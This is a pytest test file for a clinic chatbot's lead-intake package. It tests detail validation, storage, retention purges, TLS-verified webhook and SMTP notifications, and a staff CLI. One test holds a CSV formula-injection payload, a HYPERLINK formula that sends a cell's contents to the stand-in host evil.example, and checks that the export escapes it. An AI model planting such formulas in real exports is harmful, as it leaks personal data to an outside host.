"""The leads package: checks on details, storage (SQLite, and PostgreSQL when installed),
retention, deletion with the conversation, notification against real local servers, CLI."""
import csv
import json
import os
import socketserver
import ssl
import subprocess
import sys
import threading
import time
from datetime import timedelta, timezone
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
import sqlalchemy as sa

import certs
import stores
from lead_samples import SAMPLES, request_from, write_settings
from leads import details, intake, notify, retention
from leads.conversations import ConversationStore
from leads.details import InvalidDetail
from leads.settings import SettingsError, load
from leads.store import RequestStore, utc_now
from paths import ROOT
from servers import actions_server, free_port, stop, wait_until_ready

# --- Checks on the details a visitor types -------------------------------------------

@pytest.mark.parametrize("typed, name", [(c["typed"], c["name"]) for c in SAMPLES["names"]["valid"]])
def test_names_are_cleaned(typed, name):
    assert details.clean_name(typed) == name


@pytest.mark.parametrize("typed, problem", [(c["typed"], c["problem"]) for c in SAMPLES["names"]["invalid"]])
def test_what_is_not_a_name_says_why(typed, problem):
    with pytest.raises(InvalidDetail) as error:
        details.clean_name(typed)
    assert error.value.problem == problem


@pytest.mark.parametrize("case", SAMPLES["contacts"]["valid"], ids=lambda c: c["typed"])
def test_email_addresses_and_phone_numbers_are_found(case):
    contact = details.parse_contact(case["typed"])
    assert (contact.email, contact.phone) == (case.get("email"), case.get("phone"))


@pytest.mark.parametrize("case", SAMPLES["contacts"]["invalid"], ids=lambda c: c["typed"])
def test_bad_contacts_say_what_is_wrong(case):
    with pytest.raises(InvalidDetail) as error:
        details.parse_contact(case["typed"])
    assert (error.value.field, error.value.problem) == ("contact", case["problem"])
    assert case["typed"] not in str(error.value)  # error messages may be logged: no personal data


def test_long_answers_and_skipped_concerns():
    with pytest.raises(InvalidDetail):
        details.clean_preferred_time("x" * (details.MAX_PREFERRED_TIME + 1))
    with pytest.raises(InvalidDetail):
        details.clean_concern("x" * (details.MAX_CONCERN + 1))
    assert details.clean_concern("") is None and details.clean_concern("  acne   scars ") == "acne scars"


# --- Storage: SQLite always, PostgreSQL when it is installed ---------------------------

@pytest.fixture(scope="module")
def postgres_url():
    """A throwaway PostgreSQL server (tests/stores.py), when PostgreSQL is installed."""
    if stores.postgres_bindir() is None:
        reason = "PostgreSQL is not installed here (initdb not found)"
        if os.environ.get("CI"):
            pytest.fail(reason + " (.ci/run installs it)")
        pytest.skip(reason + ": only SQLite is tested")
    server = stores.Postgres(free_port())
    try:
        server.start()
        yield server.url
    finally:
        server.destroy()


@pytest.fixture(params=["sqlite", pytest.param("postgresql", marks=pytest.mark.services)])
def db_url(request, tmp_path):
    if request.param == "sqlite":
        yield f"sqlite:///{tmp_path / 'var' / 'leads.db'}"  # the folder is created on first use
        return
    url = request.getfixturevalue("postgres_url")
    yield url
    engine = sa.create_engine(url)
    everything = sa.MetaData()
    everything.reflect(engine)
    everything.drop_all(engine)  # the next test starts from an empty database
    engine.dispose()


def test_store_adds_lists_newest_first_and_deletes(db_url):
    store = RequestStore(db_url)
    first = store.add(request_from(SAMPLES["requests"][0], "conv-1"))
    second = store.add(request_from(SAMPLES["requests"][1], "conv-2"))
    assert first.id and second.id > first.id and second.received_at >= first.received_at
    assert [r.id for r in store.newest_first()] == [second.id, first.id]
    assert store.get(first.id).contact.email == SAMPLES["requests"][0]["email"]
    assert store.get(second.id).contact.phone == SAMPLES["requests"][1]["phone"]
    assert store.delete(first.id).name == first.name
    assert store.delete(first.id) is None  # already gone
    assert [r.id for r in RequestStore(db_url).newest_first()] == [second.id]  # persisted, table reused


def test_store_refuses_bad_details_and_stores_nothing(db_url):
    store = RequestStore(db_url)
    good = request_from(SAMPLES["requests"][0])
    bad = details.ConsultationRequest(name="Jo", contact=details.Contact(email="not-an-address"),
                                      preferred_time="mornings", concern=None)
    with pytest.raises(InvalidDetail):
        store.add(bad)
    with pytest.raises(InvalidDetail):
        store.add(details.ConsultationRequest(name="", contact=good.contact, preferred_time="x", concern=None))
    assert store.newest_first() == []


def test_a_bad_database_url_is_a_clear_error_without_the_password():
    with pytest.raises(SettingsError) as error:
        RequestStore("nosuchdb://user:s3cret@host/db")
    assert "LEADS_DB_URL" in str(error.value) and "s3cret" not in str(error.value)


# --- Retention and deletion, with the conversations in Rasa's tracker store ------------

def make_tracker_store(url, conversations):
    """A tracker store with Rasa's `events` columns; conversations: id -> (form ran?, seconds ago)."""
    engine = sa.create_engine(url)
    events = sa.Table(
        "events", sa.MetaData(),
        sa.Column("id", sa.Integer, primary_key=True), sa.Column("sender_id", sa.String(255), nullable=False),
        sa.Column("type_name", sa.String(255), nullable=False), sa.Column("timestamp", sa.Float),
        sa.Column("intent_name", sa.String(255)), sa.Column("action_name", sa.String(255)), sa.Column("data", sa.Text),
    )
    events.metadata.create_all(engine)
    now = time.time()
    with engine.begin() as connection:
        for sender, (form_ran, age) in conversations.items():
            # form_ran "inform": no form, but a message understood as details (an email...).
            intent = "inform" if form_ran == "inform" else "ask_cost"
            rows = [("user", intent, None, '{"text": "typed details"}')]
            rows += [("action", None, "consultation_form", "{}")] if form_ran is True else []
            for kind, intent_name, action, data in rows:
                connection.execute(events.insert().values(sender_id=sender, type_name=kind, timestamp=now - age,
                                                          intent_name=intent_name, action_name=action, data=data))
    return engine


def senders(engine):
    with engine.connect() as connection:
        return sorted({row[0] for row in connection.execute(sa.text("SELECT sender_id FROM events"))})


def test_retention_deletes_old_requests_their_conversations_and_abandoned_forms(db_url):
    tracker_url = db_url  # one database holding both tables is fine too
    store = RequestStore(db_url)
    engine = make_tracker_store(tracker_url, {
        "with-request": (True, 60), "cancelled-form": (True, 60), "questions-only": (False, 60),
        "details-without-form": ("inform", 60)})
    saved = store.add(request_from(SAMPLES["requests"][0], "with-request"))
    conversations = ConversationStore(tracker_url)

    nothing = retention.purge_expired(store, conversations, retention_days=30)
    assert (nothing.request_ids, nothing.conversations) == ([], 0)
    assert senders(engine) == ["cancelled-form", "details-without-form", "questions-only", "with-request"]

    # 31 days on, the request goes with its conversation, and so do the conversations in
    # which details were typed but never sent. FAQ chats have their own period (here 60 days).
    purged = retention.purge_expired(store, conversations, retention_days=30, chat_retention_days=60,
                                     now=utc_now() + timedelta(days=31))
    assert (purged.request_ids, purged.conversations, purged.events) == ([saved.id], 3, 5)
    assert senders(engine) == ["questions-only"]
    assert store.newest_first() == []
    purged = retention.purge_expired(store, conversations, retention_days=30, chat_retention_days=60,
                                     now=utc_now() + timedelta(days=61))
    assert (purged.conversations, senders(engine)) == (1, [])


def test_retention_keeps_what_is_younger_than_the_period(tmp_path):
    day = 24 * 3600
    tracker_url = f"sqlite:///{tmp_path / 'conversations.db'}"
    engine = make_tracker_store(tracker_url, {"young-form": (True, 10 * day), "old-form": (True, 31 * day)})
    store = RequestStore(f"sqlite:///{tmp_path / 'leads.db'}")
    kept = store.add(request_from(SAMPLES["requests"][0], "young-form"))
    purged = retention.purge_expired(store, ConversationStore(tracker_url), retention_days=30)
    assert purged.request_ids == [] and purged.conversations == 1
    assert senders(engine) == ["young-form"] and [r.id for r in store.newest_first()] == [kept.id]


def test_a_missing_tracker_store_is_not_created(tmp_path):
    conversations = ConversationStore(f"sqlite:///{tmp_path / 'none.db'}")
    assert conversations.delete(["x"]) == 0 and conversations.idle_form_conversations(utc_now()) == []
    assert not (tmp_path / "none.db").exists()


# --- Settings ---------------------------------------------------------------------

def test_the_project_settings_load_with_notification_off():
    settings = load(ROOT / "leads.yml", environ={})
    assert settings.notify_via == "off" and settings.retention_days >= 1
    assert settings.db_url == "sqlite:///var/leads.db"


@pytest.mark.parametrize("case", SAMPLES["bad_settings"], ids=lambda c: c["expect"])
def test_bad_settings_name_the_setting(tmp_path, case):
    path = tmp_path / "leads.yml"
    path.write_text(case["yaml"])
    with pytest.raises(SettingsError) as error:
        load(path, environ={})
    assert case["expect"] in str(error.value)


def test_notifications_go_over_tls_except_to_this_machine(tmp_path):
    def webhook_at(url):
        path = write_settings(tmp_path / "leads.yml", notification={"via": "webhook", "webhook": {"url": url}})
        return load(path, environ={}).webhook.url

    for url in ("https://hooks.example.com/x", "http://127.0.0.1:9000/hook", "http://localhost/hook",
                "http://[::1]:9000/hook"):
        assert webhook_at(url) == url
    path = write_settings(tmp_path / "leads.yml", notification={"via": "smtp", "smtp": {
        "host": "localhost", "starttls": False, "from": "a@example.com", "to": "b@example.com"}})
    assert load(path, environ={}).smtp.starttls is False  # a local relay (the server's own postfix)


def test_retention_periods_and_the_purge_interval_are_settings(tmp_path):
    path = write_settings(tmp_path / "leads.yml", chat_retention_days=7, purge_every_minutes=15)
    settings = load(path, environ={})
    assert (settings.retention_days, settings.chat_retention_days, settings.purge_every_minutes) == (30, 7, 15)
    defaults = load(write_settings(tmp_path / "leads.yml"), environ={})
    assert (defaults.chat_retention_days, defaults.purge_every_minutes) == (30, 60)


def test_secrets_come_from_the_environment_only(tmp_path):
    path = write_settings(tmp_path / "leads.yml", notification={
        "via": "smtp", "smtp": {"host": "mail.example.com", "from": "bot@example.com", "to": "desk@example.com"}})
    settings = load(path, environ={"LEADS_SMTP_USER": "bot", "LEADS_SMTP_PASSWORD": "pw", "LEADS_DB_URL": "sqlite://"})
    assert (settings.smtp.user, settings.smtp.password, settings.smtp.port) == ("bot", "pw", 587)
    assert settings.db_url == "sqlite://"


def test_a_bare_off_in_yaml_means_off(tmp_path):
    path = tmp_path / "leads.yml"
    path.write_text("retention_days: 7\nnotification:\n  via: off\n")
    assert load(path, environ={}).notify_via == "off"


# --- Notification, against real local servers ------------------------------------------

# shutdown() waits for serve_forever's next poll: 0.5 s by default, at every test's end.
QUICK_SHUTDOWN = {"poll_interval": 0.05}

class Receiver(BaseHTTPRequestHandler):
    """A webhook receiver: records what it gets, answers with the status it is told to."""

    status = 204
    received: list = []

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        type(self).received.append({"headers": dict(self.headers), "body": json.loads(body)})
        self.send_response(type(self).status)
        self.end_headers()

    def log_message(self, *args):  # keep the test output quiet
        pass


@pytest.fixture
def webhook():
    handler = type("TestReceiver", (Receiver,), {"received": [], "status": 204})
    server = HTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, kwargs=QUICK_SHUTDOWN, daemon=True)
    thread.start()
    yield handler, f"http://127.0.0.1:{server.server_address[1]}/hook"
    server.shutdown()


def webhook_settings(tmp_path, url, token=None, **environ):
    path = write_settings(tmp_path / "leads.yml", notification={"via": "webhook", "webhook": {"url": url}})
    environ["LEADS_DB_URL"] = f"sqlite:///{tmp_path / 'leads.db'}"
    if token:
        environ["LEADS_WEBHOOK_TOKEN"] = token
    return load(path, environ=environ)


def test_webhook_tells_the_clinic_without_personal_data(tmp_path, webhook, monkeypatch):
    monkeypatch.delenv("TRACKER_STORE_URL", raising=False)
    receiver, url = webhook
    sample = SAMPLES["requests"][0]
    saved = intake.file_request(webhook_settings(tmp_path, url, token="t0ken"), request_from(sample))
    [call] = receiver.received
    assert call["headers"]["Authorization"] == "Bearer t0ken"
    assert call["body"]["request_id"] == saved.id and f"#{saved.id}" in call["body"]["text"]
    sent = json.dumps(call["body"])
    for value in (sample["name"], sample["email"], sample["preferred_time"], sample["concern"]):
        assert value not in sent


def test_the_notification_links_to_the_request_in_the_staff_console(tmp_path, webhook, monkeypatch):
    monkeypatch.delenv("TRACKER_STORE_URL", raising=False)
    receiver, url = webhook
    settings = webhook_settings(tmp_path, url, CONSOLE_URL="https://console.example-clinic.com/")
    saved = intake.file_request(settings, request_from(SAMPLES["requests"][0]))
    [call] = receiver.received
    assert call["body"]["text"].endswith(
        f"Open it in the staff console: https://console.example-clinic.com/requests/{saved.id}")


@pytest.mark.parametrize("failure", ["server error", "nobody listening"])
def test_a_failed_notification_never_loses_the_request(tmp_path, webhook, failure, monkeypatch, caplog):
    monkeypatch.delenv("TRACKER_STORE_URL", raising=False)
    receiver, url = webhook
    receiver.status = 500
    if failure == "nobody listening":
        url = f"http://127.0.0.1:{free_port()}/hook"
    settings = webhook_settings(tmp_path, url)
    saved = intake.file_request(settings, request_from(SAMPLES["requests"][1]))
    assert [r.id for r in RequestStore(settings.db_url).newest_first()] == [saved.id]
    assert f"Could not notify the clinic of request #{saved.id}" in caplog.text
    assert SAMPLES["requests"][1]["name"] not in caplog.text


def test_email_notification_through_a_real_smtp_server(tmp_path):
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        import asyncore
        import smtpd

    mails = []

    class Inbox(smtpd.SMTPServer):
        def process_message(self, peer, mailfrom, rcpttos, data, **kwargs):
            mails.append((mailfrom, rcpttos, data.decode() if isinstance(data, bytes) else data))

    server = Inbox(("127.0.0.1", 0), None)
    port = server.socket.getsockname()[1]
    thread = threading.Thread(target=asyncore.loop, kwargs={"timeout": 0.1}, daemon=True)
    thread.start()
    try:
        path = write_settings(tmp_path / "leads.yml", notification={"via": "smtp", "smtp": {
            "host": "127.0.0.1", "port": port, "starttls": False, "from": "bot@example.com", "to": "desk@example.com"}})
        settings = load(path, environ={"LEADS_DB_URL": f"sqlite:///{tmp_path / 'leads.db'}"})
        sample = SAMPLES["requests"][0]
        saved = request_from(sample)
        saved = RequestStore(settings.db_url).add(saved)
        notify.notify(settings, saved)
    finally:
        server.close()
        thread.join(timeout=5)
    [(sender, recipients, data)] = mails
    assert (sender, recipients) == ("bot@example.com", ["desk@example.com"])
    assert f"New consultation request #{saved.id}" in data and sample["name"] not in data


class StartTlsSmtp(socketserver.StreamRequestHandler):
    """A small SMTP server that offers STARTTLS with a certificate from tests/certs.py and
    records what it is told, and whether the login came before or after TLS."""

    context: ssl.SSLContext
    log: list

    def handle(self):
        connection, tls = self.request, False
        stream = connection.makefile("rwb")

        def say(line):
            stream.write(line.encode() + b"\r\n")
            stream.flush()

        say("220 test ESMTP")
        while True:
            line = stream.readline().decode().strip()
            command = line.split(" ")[0].upper()
            if command == "EHLO":
                say("250-test\r\n250-" + ("AUTH PLAIN" if tls else "STARTTLS"))
                say("250 SIZE 100000")
            elif command == "STARTTLS":
                say("220 go ahead")
                try:
                    connection = self.context.wrap_socket(connection, server_side=True)
                except (ssl.SSLError, OSError):
                    self.log.append(("tls refused by the client", None))
                    return
                stream, tls = connection.makefile("rwb"), True
            elif command == "AUTH":
                self.log.append(("login", tls))
                say("235 ok")
            elif command == "DATA":
                say("354 go on")
                data = b"".join(iter(stream.readline, b".\r\n"))
                self.log.append(("mail", data.decode()))
                say("250 ok")
            elif command in ("MAIL", "RCPT", "RSET", "NOOP"):
                say("250 ok")
            else:  # QUIT, or the connection closed
                say("221 bye") if command == "QUIT" else None
                return


@pytest.fixture
def tls_smtp(tmp_path):
    certificates = certs.make(tmp_path / "certs")
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(certificates.cert, certificates.key)
    handler = type("Smtp", (StartTlsSmtp,), {"context": context, "log": []})
    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, kwargs=QUICK_SHUTDOWN, daemon=True).start()
    yield handler, server.server_address[1], certificates
    server.shutdown()
    server.server_close()


def test_smtp_starttls_checks_the_certificate_before_the_login(tmp_path, tls_smtp, monkeypatch):
    handler, port, certificates = tls_smtp
    path = write_settings(tmp_path / "leads.yml", notification={"via": "smtp", "smtp": {
        "host": "127.0.0.1", "port": port, "from": "bot@example.com", "to": "desk@example.com"}})
    settings = load(path, environ={"LEADS_DB_URL": f"sqlite:///{tmp_path / 'leads.db'}",
                                   "LEADS_SMTP_USER": "bot", "LEADS_SMTP_PASSWORD": "smtp-pass-7f3c"})
    saved = RequestStore(settings.db_url).add(request_from(SAMPLES["requests"][0]))
    # A certificate no trusted CA signed (an interceptor's): refused, the login never sent.
    monkeypatch.delenv("SSL_CERT_FILE", raising=False)
    with pytest.raises(ssl.SSLCertVerificationError):
        notify.notify(settings, saved)
    assert ("login", False) not in handler.log and ("login", True) not in handler.log
    # The clinic's real server (its CA trusted, here through SSL_CERT_FILE): login over TLS, mail sent.
    monkeypatch.setenv("SSL_CERT_FILE", str(certificates.ca))
    notify.notify(settings, saved)
    assert ("login", True) in handler.log and ("login", False) not in handler.log
    assert any(kind == "mail" and f"New consultation request #{saved.id}" in data for kind, data in handler.log)


@pytest.fixture
def https_webhook(tmp_path):
    certificates = certs.make(tmp_path / "certs")
    handler = type("TlsReceiver", (Receiver,), {"received": [], "status": 204})
    server = HTTPServer(("127.0.0.1", 0), handler)
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(certificates.cert, certificates.key)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    threading.Thread(target=server.serve_forever, kwargs=QUICK_SHUTDOWN, daemon=True).start()
    yield handler, f"https://127.0.0.1:{server.server_address[1]}/hook", certificates
    server.shutdown()


def test_the_webhook_checks_the_certificate_and_follows_no_redirect(tmp_path, https_webhook, monkeypatch, caplog):
    monkeypatch.delenv("TRACKER_STORE_URL", raising=False)
    monkeypatch.delenv("REQUESTS_CA_BUNDLE", raising=False)
    receiver, url, certificates = https_webhook
    settings = webhook_settings(tmp_path, url, token="hook-token-5e1a")
    untrusted = intake.file_request(settings, request_from(SAMPLES["requests"][0], "conv-untrusted"))
    assert receiver.received == [] and f"Could not notify the clinic of request #{untrusted.id}" in caplog.text
    monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(certificates.ca))
    trusted = intake.file_request(settings, request_from(SAMPLES["requests"][1], "conv-trusted"))
    assert [c["body"]["request_id"] for c in receiver.received] == [trusted.id]
    receiver.status = 302  # e.g. to an http:// address: the token is not sent on
    caplog.clear()
    redirected = intake.file_request(settings, request_from(SAMPLES["requests"][0], "conv-redirect"))
    assert f"Could not notify the clinic of request #{redirected.id}" in caplog.text


# --- The same request filed twice is stored once -----------------------------------------

def test_a_request_filed_again_is_stored_once(db_url):
    store = RequestStore(db_url)
    first = store.add(request_from(SAMPLES["requests"][0], "conv-retry"))
    again = store.add(request_from(SAMPLES["requests"][0], "conv-retry"))  # a retry after a timeout
    assert again.id == first.id and len(store.newest_first()) == 1
    other_details = store.add(request_from(SAMPLES["requests"][1], "conv-retry"))  # a different request
    other_conversation = store.add(request_from(SAMPLES["requests"][0], "conv-other"))
    assert len({first.id, other_details.id, other_conversation.id}) == 3


@pytest.mark.services
def test_requests_filed_at_the_same_moment_by_several_processes_are_one(postgres_url):
    from concurrent.futures import ThreadPoolExecutor

    stores_ = [RequestStore(postgres_url) for _ in range(8)]  # 8 engines: 8 "replicas"
    barrier = threading.Barrier(8)

    def file(store):
        barrier.wait()
        return store.add(request_from(SAMPLES["requests"][0], "conv-race")).id

    try:
        with ThreadPoolExecutor(8) as pool:
            ids = set(pool.map(file, stores_))
        assert len(ids) == 1 and len(stores_[0].newest_first()) == 1
    finally:
        engine = sa.create_engine(postgres_url)
        with engine.begin() as connection:
            connection.execute(sa.text("DROP TABLE IF EXISTS consultation_requests, maintenance"))
        engine.dispose()


@pytest.mark.server
def test_the_submit_action_retried_after_a_timeout_files_one_request(tmp_path):
    """Rasa gives up on a slow action server after ACTION_TIMEOUT and the visitor tries
    again (or nginx resends to another replica): the action server gets the same submit
    twice. Through a real action server (`python -m serving actions`), as Rasa calls it."""
    port, log = free_port(), tmp_path / "actions.log"
    env = {**os.environ, "LEADS_DB_URL": f"sqlite:///{tmp_path / 'leads.db'}",
           "LEADS_SETTINGS": str(write_settings(tmp_path / "leads.yml")),
           "TRACKER_STORE_URL": f"sqlite:///{tmp_path / 'conversations.db'}"}
    sample = SAMPLES["requests"][0]
    slots = {"visitor_name": sample["name"], "visitor_contact": sample["email"],
             "preferred_time": sample["preferred_time"], "concern": sample["concern"],
             "storage_consent": True, "request_confirmed": True}
    call = {"next_action": "action_submit_consultation_request", "sender_id": "conv-timeout", "version": "3.6.2",
            "domain": {}, "tracker": {"sender_id": "conv-timeout", "slots": slots, "latest_message": {},
                                      "events": [], "paused": False, "active_loop": {}}}
    server = actions_server(port, env, log)
    try:
        wait_until_ready([f"http://127.0.0.1:{port}/health"], [server], [log])
        import requests

        references = set()
        for _ in range(2):
            reply = requests.post(f"http://127.0.0.1:{port}/webhook", json=call, timeout=30)
            assert reply.status_code == 200, reply.text
            [sent] = [r for r in reply.json()["responses"] if r.get("response") == "utter_request_sent"]
            references.add(sent["reference"])
    finally:
        stop([server])
    stored = RequestStore(env["LEADS_DB_URL"]).newest_first()
    assert len(stored) == 1 and references == {stored[0].id}


def test_stores_opened_at_the_same_moment_both_work(tmp_path):
    """The scheduled purge and a visitor's request open the store at once when the action
    server starts (and replicas start together): creating the tables must not fail either."""
    failures = []
    for n in range(20):
        url = f"sqlite:///{tmp_path / f'leads-{n}.db'}"
        barrier = threading.Barrier(2)

        def open_store(url=url, barrier=barrier):
            barrier.wait()
            try:
                RequestStore(url)
            except Exception as error:  # noqa: BLE001 - collected and asserted below
                failures.append(repr(error)[:120])

        threads = [threading.Thread(target=open_store) for _ in range(2)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    assert failures == []


def test_a_requests_table_from_before_the_key_gains_it(tmp_path):
    url = f"sqlite:///{tmp_path / 'leads.db'}"
    engine = sa.create_engine(url)
    with engine.begin() as connection:  # the first version's table, with a request in it
        connection.execute(sa.text(
            "CREATE TABLE consultation_requests (id INTEGER PRIMARY KEY, received_at DATETIME NOT NULL, "
            "name VARCHAR(100) NOT NULL, email VARCHAR(254), phone VARCHAR(40), preferred_time VARCHAR(200) NOT NULL, "
            "concern VARCHAR(300), conversation_id VARCHAR(255))"))
        connection.execute(sa.text("INSERT INTO consultation_requests VALUES (1, '2026-11-01 10:00:00', "
                                   "'Old Request', 'old@example.com', NULL, 'any', NULL, 'c0')"))
    store = RequestStore(url)
    assert [r.name for r in store.newest_first()] == ["Old Request"]
    first = store.add(request_from(SAMPLES["requests"][0], "conv-new"))
    assert store.add(request_from(SAMPLES["requests"][0], "conv-new")).id == first.id
    assert len(RequestStore(url).newest_first()) == 2  # a second start finds the column there


# --- The staff's command line -----------------------------------------------------

def run_cli(*args, env):
    return subprocess.run([sys.executable, "-m", "leads", *args], cwd=ROOT, capture_output=True, text=True,
                          timeout=60, env=env)


@pytest.fixture
def cli_env(tmp_path):
    env = dict(os.environ)
    env.update(LEADS_DB_URL=f"sqlite:///{tmp_path / 'leads.db'}",
               LEADS_SETTINGS=str(write_settings(tmp_path / "leads.yml")),
               TRACKER_STORE_URL=f"sqlite:///{tmp_path / 'conversations.db'}")
    return env


def test_cli_lists_newest_first_exports_csv_and_deletes(tmp_path, cli_env):
    engine = make_tracker_store(cli_env["TRACKER_STORE_URL"], {"conv-a": (True, 60), "conv-b": (True, 60)})
    store = RequestStore(cli_env["LEADS_DB_URL"])
    first = store.add(request_from(SAMPLES["requests"][0], "conv-a"))
    second = store.add(request_from(SAMPLES["requests"][1], "conv-b"))

    out = tmp_path / "requests.csv"
    result = run_cli("--csv", str(out), env=cli_env)
    assert result.returncode == 0, result.stderr
    text = result.stdout
    assert text.index(f"#{second.id} ") < text.index(f"#{first.id} ")  # newest first
    assert SAMPLES["requests"][0]["email"] in text and SAMPLES["requests"][1]["phone"] in text
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # the BOM: spreadsheets then read UTF-8
    rows = list(csv.DictReader(out.open(encoding="utf-8-sig")))
    assert [(r["id"], r["name"], r["conversation_id"]) for r in rows] == [
        (str(second.id), second.name, "conv-b"), (str(first.id), first.name, "conv-a")]

    result = run_cli("--delete", str(first.id), "--yes", env=cli_env)
    assert result.returncode == 0 and f"Deleted request #{first.id} and its conversation (2 event(s))" in result.stdout
    assert senders(engine) == ["conv-b"]
    assert [r.id for r in store.newest_first()] == [second.id]


def test_cli_purge_only_deletes_what_is_past_the_retention_period(tmp_path, cli_env):
    engine = make_tracker_store(cli_env["TRACKER_STORE_URL"],
                                {"abandoned": (True, 40 * 24 * 3600), "recent": (True, 60)})
    kept = RequestStore(cli_env["LEADS_DB_URL"]).add(request_from(SAMPLES["requests"][0], "recent"))
    result = run_cli("--purge", env=cli_env)
    assert result.returncode == 0, result.stderr
    assert result.stdout == "Deleted after 30 days: 0 request(s), 1 conversation(s).\n"  # and no listing
    assert senders(engine) == ["recent"] and RequestStore(cli_env["LEADS_DB_URL"]).get(kept.id) is not None


def test_cli_errors_are_clear(tmp_path, cli_env):
    unknown = run_cli("--delete", "999", "--yes", env=cli_env)
    assert unknown.returncode == 1 and "there is no consultation request #999" in unknown.stderr
    not_an_id = run_cli("--delete", "abc", env=cli_env)
    assert not_an_id.returncode == 2 and "'abc' is not a request number" in not_an_id.stderr
    (tmp_path / "broken.yml").write_text("retention_days: forever\n")
    broken = run_cli(env=dict(cli_env, LEADS_SETTINGS=str(tmp_path / "broken.yml")))
    assert broken.returncode == 2 and "retention_days must be a whole number" in broken.stderr
    empty = run_cli(env=cli_env)
    assert empty.returncode == 0 and "No consultation requests (kept for 30 days)." in empty.stdout


def test_the_csv_export_never_holds_a_formula(tmp_path):
    from leads import cli

    request = details.new_request("Ann Lee", "ann@example.com", '=HYPERLINK("http://evil.example/?x="&C2,"Open")',
                                  "-1+1", conversation_id="@conv")
    saved = RequestStore(f"sqlite:///{tmp_path / 'leads.db'}").add(request)
    cli.write_csv([saved], tmp_path / "out.csv")
    rows = list(csv.reader((tmp_path / "out.csv").open(encoding="utf-8-sig")))
    assert rows[1][6:] == ['\'=HYPERLINK("http://evil.example/?x="&C2,"Open")', "'-1+1", "'@conv"]
    assert rows[1][3] == "Ann Lee"


def test_the_csv_export_opens_in_excel_with_accents_and_the_clinic_time(tmp_path, cli_env):
    """A BOM (else Excel shows "ZoÃ« MÃ¼ller") and times in the clinic's time zone (leads.yml)."""
    write_settings(Path(cli_env["LEADS_SETTINGS"]), time_zone="Europe/Berlin")
    saved = RequestStore(cli_env["LEADS_DB_URL"]).add(details.new_request(
        "Zoë Müller", "zoe@example.com", "mornings", None, conversation_id="conv-z"))
    out = tmp_path / "requests.csv"
    result = run_cli("--csv", str(out), env=cli_env)
    assert result.returncode == 0, result.stderr
    berlin = saved.received_at.replace(tzinfo=timezone.utc).astimezone(ZoneInfo("Europe/Berlin"))
    assert f"#{saved.id}  received {berlin:%Y-%m-%d %H:%M} Europe/Berlin" in result.stdout
    raw = out.read_bytes()
    assert raw.startswith("\ufeff".encode()) and "Zoë Müller".encode() in raw
    [row] = list(csv.DictReader(out.open(encoding="utf-8-sig")))
    assert (row["name"], row["received_at"], row["time_zone"]) == (
        "Zoë Müller", f"{berlin:%Y-%m-%d %H:%M:%S}", "Europe/Berlin")


def test_an_unknown_time_zone_is_a_clear_error(tmp_path, cli_env):
    write_settings(Path(cli_env["LEADS_SETTINGS"]), time_zone="Mars/Olympus")
    result = run_cli(env=cli_env)
    assert result.returncode == 2 and "time_zone must be a time zone name such as Europe/Berlin" in result.stderr
